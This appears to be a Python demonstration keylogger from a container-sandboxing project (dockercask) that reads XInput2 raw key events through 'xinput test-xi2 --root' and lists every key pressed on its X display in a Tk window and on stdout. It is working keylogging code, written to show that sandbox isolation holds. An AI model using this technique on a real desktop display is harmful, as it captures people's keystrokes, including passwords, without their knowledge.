#!/usr/bin/python3
"""A keylogger, for demonstration: after "Keylog" is clicked it records every key press that
XInput2 raw events report on its X display, shows them in its window and prints them on
stdout (so `dockercask logs keylogger` shows them too).

Raw events are what real X keyloggers use: any client of an X server may select them on the
root window and receive every key typed into any window of that server. Run on the desktop's
own display this program would see all of your typing; under dockercask it sees only what is
typed into its own window.
"""
import ctypes
import queue
import subprocess
import sys
import threading
import tkinter as tk

RAW_KEY_PRESS = "(RawKeyPress)"


class KeyNames:
    """Key codes to names (`a`, `Return`, `Shift_L`) from the server's keyboard map, through
    libX11 itself (already loaded by Tk), which reads the family-wild cookie dockercask gives."""

    def __init__(self):
        self.x11 = ctypes.CDLL("libX11.so.6")
        self.x11.XOpenDisplay.restype = ctypes.c_void_p
        self.x11.XOpenDisplay.argtypes = [ctypes.c_char_p]
        self.x11.XkbKeycodeToKeysym.restype = ctypes.c_ulong
        self.x11.XkbKeycodeToKeysym.argtypes = [ctypes.c_void_p, ctypes.c_ubyte, ctypes.c_int, ctypes.c_int]
        self.x11.XKeysymToString.restype = ctypes.c_char_p
        self.x11.XKeysymToString.argtypes = [ctypes.c_ulong]
        self.display = self.x11.XOpenDisplay(None)
        if not self.display:
            raise SystemExit("keylogger: cannot open the X display")

    def name(self, keycode):
        keysym = self.x11.XkbKeycodeToKeysym(self.display, keycode, 0, 0)
        name = self.x11.XKeysymToString(keysym) if keysym else None
        return name.decode() if name else f"keycode {keycode}"


def read_raw_keys(keys):
    """Follows `xinput test-xi2 --root` and queues the keycode of every raw key press."""
    # stdbuf: xinput writes to a pipe, which stdio would otherwise buffer by the page.
    proc = subprocess.Popen(["stdbuf", "-oL", "xinput", "test-xi2", "--root"], stdout=subprocess.PIPE, text=True)
    in_press = False
    for line in proc.stdout:
        line = line.strip()
        if line.startswith("EVENT type"):
            in_press = line.endswith(RAW_KEY_PRESS)
        elif in_press and line.startswith("detail:"):
            keys.put(int(line.split()[1]))
            in_press = False
    keys.put(None)


class Keylogger:
    def __init__(self, root):
        self.root = root
        self.key_names = KeyNames()
        self.keys = queue.Queue()
        self.logging = False
        root.title("Keylogger")
        # A wide button across the top: easy to find, for people and for the e2e test.
        self.button = tk.Button(root, text="Keylog", font=("DejaVu Sans", 16, "bold"), command=self.start, height=2)
        self.button.pack(side=tk.TOP, fill=tk.X)
        self.status = tk.Label(root, text="Click Keylog, then type anywhere on your desktop.", anchor="w", font=("DejaVu Sans", 11))
        self.status.pack(side=tk.TOP, fill=tk.X, padx=8, pady=4)
        self.log = tk.Text(root, font=("DejaVu Sans Mono", 12), wrap="word", state=tk.DISABLED)
        self.log.pack(side=tk.TOP, fill=tk.BOTH, expand=True, padx=8, pady=(0, 8))

    def start(self):
        if self.logging:
            return
        self.logging = True
        self.button.configure(text="Logging keys...", state=tk.DISABLED)
        self.status.configure(text="Every key this X server sees is listed below.")
        threading.Thread(target=read_raw_keys, args=(self.keys,), daemon=True).start()
        print("keylogger: logging raw key presses", flush=True)
        self.root.after(50, self.drain)

    def drain(self):
        while True:
            try:
                keycode = self.keys.get_nowait()
            except queue.Empty:
                break
            if keycode is None:
                self.status.configure(text="xinput stopped: no more keys.")
                return
            name = self.key_names.name(keycode)
            print(f"key: {name}", flush=True)
            self.log.configure(state=tk.NORMAL)
            self.log.insert(tk.END, f"{name} ")
            self.log.see(tk.END)
            self.log.configure(state=tk.DISABLED)
        self.root.after(50, self.drain)


def main():
    root = tk.Tk(className="Keylogger")
    root.geometry("640x400")
    Keylogger(root)
    root.mainloop()
    return 0


if __name__ == "__main__":
    sys.exit(main())
